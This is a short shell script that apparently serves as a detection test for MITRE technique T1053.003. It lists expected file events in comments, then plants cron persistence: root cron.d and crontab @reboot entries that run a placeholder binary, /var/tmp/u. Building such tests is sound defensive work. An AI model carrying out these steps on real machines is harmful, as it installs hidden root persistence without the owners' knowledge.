#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# T1053.003: persistence through three places of cron.
# must: mkdir /etc/cron.d
# must: mkdir /var/spool/cron/crontabs
# must: create /etc/cron.d/update
# must: create /etc/cron.hourly/update
# must: chmod /etc/cron.hourly/update 0755
# must: create /var/spool/cron/crontabs/root
# must: write /var/spool/cron/crontabs/root
# must: read /var/spool/cron/crontabs/root
# must: present /etc/cron.d/update
mkdir -p /etc/cron.d /etc/cron.hourly /var/spool/cron/crontabs
echo '*/5 * * * * root /var/tmp/u' > /etc/cron.d/update
printf '#!/bin/sh\nexit 0\n' > /etc/cron.hourly/update
chmod 0755 /etc/cron.hourly/update
echo '@reboot /var/tmp/u' >> /var/spool/cron/crontabs/root
cat /var/spool/cron/crontabs/root
